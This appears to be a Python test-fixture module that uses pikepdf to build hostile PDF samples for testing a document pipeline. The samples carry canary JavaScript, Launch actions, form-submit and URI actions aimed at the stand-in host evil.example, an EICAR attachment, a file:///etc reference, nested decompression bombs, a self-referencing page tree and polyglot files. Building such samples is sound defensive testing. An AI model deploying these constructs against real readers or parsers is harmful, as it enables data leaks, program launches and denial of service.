"""PDFs that act, carry other files, ask for a password, unfold without end, or are something else as well."""

import functools
import io
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.documents.hostile import CANARY, EICAR
from tests.documents.hostile.lies import SCRIPT, zipped
from tests.documents.hostile.pictures import picture, with_place

NOTE = CANARY.encode()
JAVASCRIPT = f"app.alert('{CANARY}')"
AS_THEY_ARE = {"stream_decode_level": pikepdf.StreamDecodeLevel.none, "compress_streams": False}


def pdf(change: Callable[[Pdf], None] = lambda pdf: None, **options) -> bytes:
    """A page, and what ``change`` does to it."""
    out = io.BytesIO()
    with Pdf.new() as made:
        made.add_blank_page()
        change(made)
        # As they are: some would unfold, and those that are folded twice or thrice would be folded once.
        made.save(out, **(options or AS_THEY_ARE))
    return out.getvalue()


def action(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def at_opening(kind: str, **more) -> Callable[[Pdf], None]:
    return lambda pdf: pdf.Root.__setitem__("/OpenAction", action(kind, **more))


def note(kind: str, **more) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 50, 50], **more)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(made)])

    return change


def at_closing(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=action("JavaScript", JS=String(JAVASCRIPT)))


def on_page(**more) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for key, value in more.items():
            pdf.pages[0].obj[f"/{key}"] = value

    return change


def in_names(pdf: Pdf) -> None:
    script = pdf.make_indirect(action("JavaScript", JS=String(JAVASCRIPT)))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def attached(content: bytes) -> Callable[[Pdf], None]:
    return lambda pdf: pdf.attachments.__setitem__("report.exe", content)


def attached_to_page(pdf: Pdf) -> None:
    file = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=pdf.make_stream(NOTE)))
    note("FileAttachment", FS=pdf.make_indirect(file))(pdf)


def form_of_xml(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(f"<xdp>{CANARY}</xdp>".encode()))


def field_with_script(pdf: Pdf) -> None:
    script = action("JavaScript", JS=pdf.make_stream(JAVASCRIPT.encode()))
    note("Widget", FT=Name.Tx, T=String("a"), AA=Dictionary(K=script, C=script), A=script)(pdf)
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].obj.Annots[0]]))


def outline_with_script(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("a"), A=action("JavaScript", JS=String(JAVASCRIPT))))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def one_after_another(pdf: Pdf) -> None:
    pdf.Root.OpenAction = action("GoTo", D=Array([]), Next=Array([action("Launch", F=String(CANARY))]))


def made_by(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = CANARY
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [CANARY]


def stream_elsewhere(pdf: Pdf) -> None:
    pdf.pages[0].obj.Contents = pdf.make_stream(b"", F=String(f"file:///etc/{CANARY}"))


def image(content: bytes, width: int = 40, height: int = 30, **more) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        made = pdf.make_stream(content, Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height, **more)
        made.ColorSpace, made.BitsPerComponent = Name.DeviceRGB, 8
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(a=made))

    return change


@functools.cache
def folded(layers: int) -> bytes:
    return zlib.compress(folded(layers - 1) if layers > 1 else bytes(200_000_000), 1)


def unfolding(layers: int, filters: list[Name]) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        stream = pdf.make_stream(b"")
        stream.write(folded(layers), filter=Array(filters))
        pdf.pages[0].obj.Contents = stream

    return change


def many_streams_that_unfold(pdf: Pdf) -> None:
    content = zlib.compress(bytes(20_000_000), 1)
    streams = [pdf.make_stream(b"") for _ in range(40)]
    for stream in streams:
        stream.write(content, filter=Name.FlateDecode)
    pdf.pages[0].obj.Contents = Array(streams)


def pages_without_end() -> bytes:
    """A tree of pages that is its own branch."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def nested(depth: int) -> bytes:
    return b"%PDF-1.4\n1 0 obj" + b"[" * depth + b"]" * depth + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def many_objects(count: int) -> bytes:
    return b"%PDF-1.4\n" + b"".join(b"%d 0 obj<<>>endobj\n" % each for each in range(1, count)) + b"trailer<<>>"


def files() -> Iterator[tuple[str, str, bytes]]:
    plain = pdf()
    flate, lzw = Name.FlateDecode, Name.LZWDecode
    script = {"JS": String(JAVASCRIPT)}
    acting = {
        "a script at opening": pdf(at_opening("JavaScript", **script)),
        "a script in its names": pdf(in_names),
        "a script in a field": pdf(field_with_script),
        "a script in its outline": pdf(outline_with_script),
        "a script on a page": pdf(on_page(AA=Dictionary(O=action("JavaScript", **script)))),
        "a script at closing": pdf(at_closing),
        "a program to start": pdf(at_opening("Launch", F=String(CANARY), Win=Dictionary(P=String(CANARY)))),
        "a program to start after going": pdf(one_after_another),
        "an address to open": pdf(at_opening("URI", URI=String(f"http://evil.example/{CANARY}"))),
        "a link": pdf(note("Link", A=action("URI", URI=String(f"http://evil.example/{CANARY}")))),
        "another file to go to": pdf(at_opening("GoToR", F=String(f"\\\\evil.example\\{CANARY}"), D=Array([]))),
        "an embedded file to go to": pdf(at_opening("GoToE", F=String(CANARY), D=Array([]))),
        "a form that is sent": pdf(at_opening("SubmitForm", F=String(f"http://evil.example/{CANARY}"))),
        "a form that is filled from a file": pdf(at_opening("ImportData", F=String(CANARY))),
        "a named action": pdf(at_opening("Named", N=Name("/" + CANARY))),
        "a film": pdf(note("Movie", Movie=Dictionary(F=String(CANARY)))),
        "sound": pdf(lambda it: note("Sound", Sound=it.make_stream(NOTE))(it)),
        "a screen": pdf(note("Screen", A=action("Rendition", **script))),
        "rich media": pdf(lambda it: note("RichMedia", RichMediaContent=Dictionary(A=it.make_stream(NOTE)))(it)),
        "three dimensions": pdf(lambda it: note("3D", **{"3DD": it.make_stream(NOTE)})(it)),
        "a form of XML": pdf(form_of_xml),
        "a file attached": pdf(attached(NOTE)),
        "a file attached to a page": pdf(attached_to_page),
        "a virus attached": pdf(attached(EICAR)),
        "its author": pdf(made_by),
        "content from elsewhere": pdf(stream_elsewhere),
        "a picture that tells where": pdf(image(picture("JPEG", exif=with_place()), Filter=Name.DCTDecode)),
        "a folded picture that tells where": pdf(
            image(zlib.compress(picture("JPEG", exif=with_place())), Filter=Array([flate, Name.DCTDecode]))
        ),
    }  # fmt: skip
    broken = {
        "a password": pdf(encryption=pikepdf.Encryption(user="a", owner="b")),
        "a password for changes": pdf(encryption=pikepdf.Encryption(user="", owner="b")),
        "no pages": pdf(lambda it: it.pages.__delitem__(0)),
        "pages without end": pages_without_end(),
        "lists in lists": nested(100_000),
        "only its beginning": b"%PDF-1.7",
        "half of it": plain[: len(plain) // 2],
        "a hundred thousand objects": many_objects(100_000),
        "a pixel flood": pdf(image(b"", 60_000, 60_000)),
        "a stream that unfolds": pdf(unfolding(1, [flate])),
        "a stream that unfolds twice": pdf(unfolding(2, [flate, flate])),
        "a stream that unfolds thrice": pdf(unfolding(3, [flate, flate, flate])),
        "a stream that unfolds in two ways": pdf(unfolding(1, [flate, lzw])),
        "many streams that unfold": pdf(many_streams_that_unfold),
        "a page before its beginning": SCRIPT.encode() + plain,
        "a page after its end": plain + SCRIPT.encode(),
        "a zip after its end": plain + zipped(note=NOTE),
        "a program before its beginning": b"MZ" + bytes(100) + plain,
        "letters before its beginning": b"hello\n" + plain,
        "a second version": plain + pdf(at_opening("JavaScript", **script)),
    }
    for what, content in (acting | broken).items():
        yield f"a PDF with: {what}", "report.pdf", content
